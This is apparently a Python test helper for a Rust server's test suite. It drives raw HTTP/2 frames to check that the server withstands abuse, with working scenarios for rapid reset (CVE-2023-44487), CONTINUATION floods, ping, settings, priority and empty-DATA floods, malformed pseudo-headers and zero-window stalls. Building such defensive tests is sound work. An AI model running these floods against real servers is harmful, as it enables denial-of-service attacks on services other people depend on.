#!/usr/bin/python3
"""A hostile HTTP/2 client (Python's h2 package driving raw frames) for
appliance/tests/h2_abuse.rs.

    abuse.py HOST PORT SCENARIO SECONDS

Runs SCENARIO against https://HOST:PORT for at most SECONDS and prints one
JSON line: what it sent, and how the server ended it ("goaway" with its
error code, "closed", or "open" if it was still taking it at the end)."""

import json
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, PingFrame, PriorityFrame, SettingsFrame

host, port, scenario, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
scenario, _, scenario_arg = scenario.partition(":")

ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
ctx.set_alpn_protocols(["h2"])
sock = ctx.wrap_socket(socket.create_connection((host, port)), server_hostname="shop.test")
assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
sock.settimeout(0.001)

conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
conn.initiate_connection()
sock.sendall(conn.data_to_send())

REQUEST = [(":method", "GET"), (":scheme", "https"), (":authority", "shop.test"), (":path", "/")]
end = {"how": "open"}
sent = 0
responses = 0
deadline = time.monotonic() + seconds


def pump():
    """Reads what the server sent; False once it has ended the connection."""
    global responses
    while True:
        try:
            data = sock.recv(65536)
        except (socket.timeout, ssl.SSLWantReadError):
            return True
        except (ConnectionError, ssl.SSLError, OSError):
            end["how"] = "closed"
            return False
        if not data:
            if end["how"] == "open":
                end["how"] = "closed"
            return False
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError as e:
            # Frames for a stream sent raw (its state unknown to h2): the
            # server's reset or GOAWAY for it.
            end["how"] = "refused (" + str(e) + ")"
            return False
        for e in events:
            if isinstance(e, h2.events.ConnectionTerminated):
                end["how"] = "goaway"
                end["code"] = str(e.error_code)
            elif isinstance(e, h2.events.ResponseReceived):
                responses += 1
                end.setdefault("statuses", {})
                status = dict(e.headers).get(":status")
                end["statuses"][status] = end["statuses"].get(status, 0) + 1
        out = conn.data_to_send()
        if out:
            try:
                sock.sendall(out)
            except OSError:
                end["how"] = "closed"
                return False


def raw(frame):
    sock.sendall(frame.serialize())


encoder = conn.encoder


def block(headers):
    return encoder.encode(headers)


try:
    if scenario == "rapid_reset":
        # CVE-2023-44487: a stream opened and cancelled, over and over.
        while time.monotonic() < deadline:
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, REQUEST, end_stream=True)
            conn.reset_stream(sid)
            sock.sendall(conn.data_to_send())
            sent += 1
            if sent % 50 == 0 and not pump():
                break
    elif scenario == "continuation_flood":
        # HEADERS without END_HEADERS, then CONTINUATION frames for ever.
        sid = conn.get_next_available_stream_id()
        raw(HeadersFrame(sid, data=block(REQUEST), flags=["END_STREAM"]))
        filler = b"\x00" * 16000
        while time.monotonic() < deadline:
            raw(ContinuationFrame(sid, data=filler))
            sent += 1
            if sent % 20 == 0 and not pump():
                break
    elif scenario in ("ping_flood", "settings_flood", "priority_flood", "empty_data_flood"):
        # Frames that cost the server an answer or a wake-up, none the client.
        sid = None
        if scenario == "empty_data_flood":
            sid = conn.get_next_available_stream_id()
            # A request whose backend waits for its whole body.
            post = [(":method", "POST"), (":scheme", "https"), (":authority", "shop.test"), (":path", "/sink")]
            conn.send_headers(sid, post, end_stream=False)
            sock.sendall(conn.data_to_send())
        while time.monotonic() < deadline:
            if scenario == "ping_flood":
                frame = PingFrame(0, opaque_data=sent.to_bytes(8, "big"))
            elif scenario == "settings_flood":
                frame = SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100})
            elif scenario == "priority_flood":
                # For streams never opened: allowed, and of no use.
                frame = PriorityFrame(2 * (sent % 1000) + 101, depends_on=0, stream_weight=16)
            else:
                frame = DataFrame(sid, data=b"")
            # Not read: the answers pile up on the server's side, if anywhere.
            try:
                raw(frame)
            except OSError:
                end["how"] = "closed"
                break
            sent += 1
            if sent % 100 == 0 and not pump():
                break
    elif scenario == "bad_pseudo_headers":
        # Each on its own stream: the server must refuse it (a stream error
        # or the connection), never answer it as a request.
        bad = [
            [(":method", "GET"), (":method", "GET"), (":scheme", "https"), (":authority", "shop.test"), (":path", "/")],
            [(":scheme", "https"), (":authority", "shop.test"), (":path", "/")],
            [(":method", "GET"), (":scheme", "https"), (":authority", "shop.test"), (":path", "/"), ("connection", "keep-alive")],
            [(":method", "GET"), (":scheme", "https"), (":authority", "shop.test"), (":path", "/"), (":status", "200")],
            [(":method", "GET"), ("x-a", "1"), (":scheme", "https"), (":authority", "shop.test"), (":path", "/")],
            [(":method", "GET"), (":scheme", "https"), (":authority", "shop.test"), (":path", "")],
            [(":method", "GET"), (":scheme", "https"), (":authority", "shop.test"), (":path", "/"), ("X-Upper", "1")],
        ]
        # bad_pseudo_headers:N sends case N (on a connection of its own).
        headers = bad[int(scenario_arg)]
        raw(HeadersFrame(1, data=block(headers), flags=["END_HEADERS", "END_STREAM"]))
        sent = 1
        stop = time.monotonic() + min(seconds, 2)
        while time.monotonic() < stop and pump():
            pass
    elif scenario == "zero_window":
        # A window of 0: the server may send no DATA, so a large response
        # must wait (bounded) until the connection is given up as idle.
        conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, REQUEST[:3] + [(":path", "/stream?chunks=200000&ms=0")], end_stream=True)
        sock.sendall(conn.data_to_send())
        sent = 1
        while time.monotonic() < deadline and pump():
            time.sleep(0.05)
    elif scenario == "cookies":
        # Two cookie fields, as HTTP/2 clients split them (RFC 9113, 8.2.3).
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, REQUEST + [("cookie", "a=1"), ("cookie", "b=2")], end_stream=True)
        sock.sendall(conn.data_to_send())
        sent = 1
        body = b""
        stop = time.monotonic() + min(seconds, 5)
        while time.monotonic() < stop:
            try:
                data = sock.recv(65536)
            except (socket.timeout, ssl.SSLWantReadError):
                continue
            if not data:
                break
            for e in conn.receive_data(data):
                if isinstance(e, h2.events.DataReceived):
                    body += e.data
                    conn.acknowledge_received_data(e.flow_controlled_length, e.stream_id)
                if isinstance(e, h2.events.StreamEnded):
                    stop = 0
            sock.sendall(conn.data_to_send())
        end["body"] = body.decode("utf-8", "replace")
    else:
        sys.exit("unknown scenario " + scenario)
    if end["how"] == "open":
        pump()
except (BrokenPipeError, ConnectionResetError, ssl.SSLEOFError):
    end["how"] = "closed"
end["sent"] = sent
end["responses"] = responses
print(json.dumps(end))
